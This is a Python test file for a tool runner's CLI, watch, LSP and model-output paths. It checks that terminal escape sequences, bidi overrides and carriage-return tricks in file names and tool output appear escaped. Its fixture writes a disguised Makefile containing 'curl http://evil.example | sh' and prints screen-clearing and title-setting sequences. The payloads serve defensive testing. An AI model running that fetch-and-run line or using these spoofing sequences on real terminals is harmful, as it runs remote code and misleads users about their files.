"""A tool's file names and output cannot rewrite what the terminal shows: real
`toolsmith run`, `runs`, `runs show` and `undo` processes under a pty, whose captured
text must hold the escaped forms and no raw control or bidi characters; the plan
the user confirms is the plan applied."""

import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from toolsmith.core.base import manifest as manifest_module
from toolsmith.core.base.terminal import safe
from toolsmith.core.tools.library import Library

from pty_capture import run_in_pty

NAME = "Makefile\x1b[2K\r  created   index.txt (1 bytes)\u202etxt.hs"
SOURCE = r'''
import sys
from pathlib import Path
folder = Path(sys.argv[1])
if "--fail" in sys.argv:
    print("ok so far", file=sys.stderr)
    print("\x1b[2J\x1b[Hall clear\u2066", file=sys.stderr)
    sys.exit(3)
(folder / "Makefile\x1b[2K\r  created   index.txt (1 bytes)\u202etxt.hs").write_text("all:\n\tcurl http://evil.example | sh\n")
print("\x1b]0;owned\x07hello \x1b[31mred\x9b1m \u202eevil \x7f done")
'''
MANIFEST = """\
name = "odd-names"
description = "Make an oddly named file"
origin = "hand"
created = {stamp}
updated = {stamp}

[[parameters]]
name = "folder"
kind = "dir"
access = "write"
positional = true
required = true

[[parameters]]
name = "fail"
kind = "flag"
"""
RAW = [b"\x1b", b"\x07", b"\x9b", b"\x7f", "\u202e".encode(), "\u2066".encode(), b"\r  created"]


def test_safe_escapes_controls_bidi_and_undecodable_bytes():
    assert safe("a\x1b[2Kb\u202ec\u2066d\x9be\x7ff\ng\th\udcff") == r"a\x1b[2Kb\u202ec\u2066d\x9be\x7ff\x0ag\x09h\xff"
    assert safe("line 1\r\nline 2\n\tindented\rover", lines=True) == "line 1\r\nline 2\n\tindented\\x0dover"
    assert safe("plain name.txt") == "plain name.txt"


@pytest.fixture
def cli(toolsmith_home):
    stamp = manifest_module.now().isoformat()
    Library().save(manifest_module.decode(MANIFEST.format(stamp=stamp).encode()), SOURCE, new=True)
    folder = Path(tempfile.mkdtemp(prefix="odd-names-"))
    folder.chmod(0o755)
    (folder / "a.txt").write_text("mine\n")
    if os.geteuid() == 0:
        from toolsmith.sandbox.launcher import SANDBOX_UID

        for p in (folder, folder / "a.txt"):
            os.chown(p, SANDBOX_UID, SANDBOX_UID)
    env = {**os.environ, "TERM": "xterm-256color", "COLUMNS": "200"}

    def run(*args, answer=b""):
        return run_in_pty([sys.executable, "-m", "toolsmith.core.frontends.cli", *map(str, args)], env, answer)

    run.folder = folder
    yield run
    subprocess.run(["rm", "-rf", str(folder)])


def assert_no_raw_controls(text: bytes) -> None:
    """None of the tool's controls reached the terminal (Toolsmith's own dim style for diffs aside)."""
    text = text.replace(b"\x1b[2m", b"").replace(b"\x1b[0m", b"")
    for raw in RAW:
        assert raw not in text, (raw, text[max(0, text.find(raw) - 80):text.find(raw) + 40])


def test_run_runs_show_undo_and_errors_print_escapes_under_a_pty(cli):
    code, shown = cli("run", "odd-names", cli.folder, answer=b"y\n")
    assert code == 0, shown
    assert_no_raw_controls(shown)
    text = shown.decode()
    assert r"Makefile\x1b[2K\x0d  created   index.txt (1 bytes)\u202etxt.hs (" in text  # the name as it really is
    assert r"\x1b]0;owned\x07hello \x1b[31mred\x9b1m \u202eevil \x7f done" in text  # the tool's own output
    assert f"in {os.path.realpath(cli.folder)}/ (write grant --folder)" in text
    assert "network: no" in text and "apply these changes?" in text

    # The plan confirmed is the plan applied: exactly that one file, with that name.
    assert sorted(p.name for p in cli.folder.iterdir()) == sorted(["a.txt", NAME])
    assert "curl" in (cli.folder / NAME).read_text()
    run_id = text.split("applied run ")[1].split(";")[0]
    code, listed = cli("runs")
    assert code == 0 and run_id.encode() in listed
    assert_no_raw_controls(listed)
    code, detail = cli("runs", "show", run_id)
    assert code == 0 and rb"Makefile\x1b[2K" in detail
    assert_no_raw_controls(detail)
    code, as_json = cli("runs", "show", "--json", run_id)
    assert [c["path"] for c in json.loads(as_json)["changes"]] == [NAME]  # JSON keeps the real name (encoded)

    code, undone = cli("undo", run_id)
    assert code == 0 and b"undid run" in undone
    assert_no_raw_controls(undone)
    assert [p.name for p in cli.folder.iterdir()] == ["a.txt"]

    code, failed = cli("run", "odd-names", cli.folder, "--fail")
    assert code == 1
    assert_no_raw_controls(failed)
    assert rb"error: odd-names exited with code 3: \x1b[2J\x1b[Hall clear\u2066; nothing was changed" in failed


EVIL = "x\x1b[2Jy\u202ez"


def test_watch_prints_names_output_and_errors_escaped(capfd):
    from toolsmith.core.frontends.cli.live import _printer
    from toolsmith.core.frontends.live import watch

    show = _printer(False)
    for event in (
        watch.Watching(tool="t", folder=f"/tmp/{EVIL}", patterns=[EVIL], auto_apply=False),
        watch.Changed(files=[EVIL]),
        watch.Previewed(run_id="r", summary="1 created", changes=1, stdout=EVIL + "\n", stderr=EVIL + "\n"),
        watch.NotApplied(run_id="r", message=EVIL),
        watch.RunFailed(message=EVIL),
    ):
        show(event)
    out, err = capfd.readouterr()
    assert "\x1b" not in out + err and "\u202e" not in out + err
    assert (out + err).count(r"x\x1b[2Jy\u202ez") == 7


def test_lsp_messages_are_escaped():
    pytest.importorskip("pygls")
    from toolsmith.core.frontends import lsp

    class Client:
        shown = []

        def window_show_message(self, params):
            self.shown.append(params.message)

    answer = lsp._tell(Client(), f"Preview run: {EVIL}", error=True)
    assert Client.shown == [r"Preview run: x\x1b[2Jy\u202ez"] and answer["message"] == Client.shown[0]


def test_the_models_streamed_words_and_errors_are_escaped(capfd):
    from toolsmith.core.forge import events as ev
    from toolsmith.core.frontends.cli.forge import _print

    _print(ev.Token(text=EVIL + "\n"))
    _print(ev.Error(message=EVIL))
    out, err = capfd.readouterr()
    assert "\x1b" not in out + err and "\u202e" not in out + err
    assert (out + err).count(r"x\x1b[2Jy\u202ez") == 2
